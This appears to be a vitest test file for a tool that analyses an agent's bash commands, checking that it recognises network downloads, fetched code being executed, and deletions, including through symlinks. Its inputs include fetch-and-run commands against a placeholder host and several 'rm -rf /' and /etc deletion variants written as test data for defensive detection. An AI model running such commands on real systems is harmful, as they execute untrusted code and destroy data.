import { describe, expect, test } from 'vitest'
import { actionsOf } from '../actions-of.ts'
import { blankView } from '../workspace.ts'
import { bashCall } from '../../test/call-of.ts'

const view = blankView({ workingDirectory: '/home/dev/proj', home: '/home/dev' })

function run(command: string) {
  const { actions } = actionsOf(bashCall(command), view)
  return {
    downloads: actions.flatMap((one) =>
      one.kind === 'file.write' && one.manner === 'download' ? [one.path] : [],
    ),
    codeFrom: actions.flatMap((one) => (one.kind === 'shell.run' ? [one.codeFrom] : [])),
    deleted: actions.flatMap((one) => (one.kind === 'file.delete' ? [one.path] : [])),
    executed: actions.flatMap((one) =>
      one.kind === 'file.read' && one.manner === 'execute' ? [one.path] : [],
    ),
  }
}

/** What later calls of the session are told: this file came from the network. */
describe('a file that comes from the network is a download, however it is written', () => {
  test.each([
    'curl -o x https://e.example/a',
    'curl -O https://e.example/x',
    'curl https://e.example/a > x',
    'curl https://e.example/a >> x',
    'curl https://e.example/a | tee x',
    'curl https://e.example/a | base64 -d > x',
    'wget https://e.example/x',
    'wget -qO- https://e.example/a > x',
    'X=$(curl https://e.example/a); echo "$X" > x',
    'curl -o y https://e.example/a && mv y x',
    'curl -o y https://e.example/a && cp y x',
  ])('%s', (command) => {
    expect(run(command).downloads).toContain('/home/dev/proj/x')
  })

  test('what does not is none', () => {
    for (const command of ['echo a > x', 'cat a | tee x', 'cp a x', 'curl https://e.example/a'])
      expect(run(command).downloads).toEqual([])
  })
})

describe('code that the same call fetched comes from the network, however it is run', () => {
  test.each([
    'bash x',
    'chmod +x x && ./x',
    'python x',
    'node x',
    'source x',
    '. ./x',
    'sh < x',
    'cat x | sh',
    'eval "$(cat x)"',
    'bash -c "$(< x)"',
    'cp x y; sh y',
    'mv x y && ./y',
    'make -f x',
  ])('%s', (command) => {
    expect(run(`curl -o x https://e.example/a; ${command}`).codeFrom).toContain('network')
  })

  test('so does what a file of tasks says that it fetched', () => {
    expect(run('curl -o Makefile https://e.example/m; make').codeFrom).toContain('network')
    expect(run('curl -o package.json https://e.example/m; npm test').codeFrom).toContain('network')
  })
})

describe('code that the same call wrote is read', () => {
  test.each([
    'cat > x <<E\nrm -rf /\nE\nbash x',
    "printf 'rm -rf /' > x; chmod +x x; ./x",
    'echo "rm -rf /" | tee x; sh x',
    'echo "rm -rf /" > y; cp y x; source x',
    'echo ls > x; echo "rm -rf /" >> x; . ./x',
    'cat > x <<E\nimport os\nos.system("rm -rf /")\nE\npython3 x',
    'cat > x <<E\n#!/usr/bin/env node\nrequire("child_process").execSync("rm -rf /")\nE\nchmod +x x; ./x',
  ])('%j', (command) => {
    const { deleted, executed } = run(command)
    expect(deleted).toEqual(['/'])
    expect(executed).toEqual(['/home/dev/proj/x'])
  })
})

describe('a link that the same call makes leads on', () => {
  test.each([
    ['ln -s / r; rm -rf r/etc', ['/etc']],
    ['ln -s ../other o; rm -rf o/x', ['/home/dev/other/x']],
    ['mkdir d; ln -sf ../a d/; rm d/a/x', ['/home/dev/proj/a/x']],
    ['ln -s /etc; rm -rf etc/x', ['/etc/x']],
    ['ln ~/.bashrc b; cp b c; rm b', ['/home/dev/proj/b']],
    ['ln -s ../other o; rm o', ['/home/dev/proj/o']],
    ['ln -s $X o; rm -rf o/x', ['']],
    ['ln -s a b; ln -s b a; rm a/x', ['']],
  ])('%s', (command, deleted) => {
    expect(run(command).deleted).toEqual(deleted)
  })
})
